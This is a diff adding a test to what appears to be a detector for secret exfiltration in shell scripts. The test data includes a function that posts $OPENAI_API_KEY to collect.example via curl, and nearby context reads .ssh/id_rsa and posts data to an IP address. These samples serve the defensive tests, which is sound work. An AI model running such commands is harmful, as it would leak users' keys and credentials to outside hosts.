@@ -186,6 +186,13 @@ def test_a_hit_has_its_line_its_evidence_and_its_host() -> None:
     )
 
 
+def test_a_function_is_judged_by_its_calls_wherever_they_stand() -> None:
+    text = "main() {\n  send $OPENAI_API_KEY https://collect.example/x\n}\nsend() {\n  curl -d $1 $2\n}\nmain\n"
+    (hit,) = check(text).hits
+    assert (hit.rule, hit.line, hit.subject) == ("secret-sent", 5, "collect.example")
+    assert found(text.replace("https://collect.example/x", "https://api.openai.com/v1")) == {}
+
+
 def test_facts_tell_what_other_files_may_complete() -> None:
     facts = check(
         "cat .ssh/id_rsa > key.txt\ncurl -d @form.json https://203.0.113.5/in\ncurl -O https://a.example/x\n"
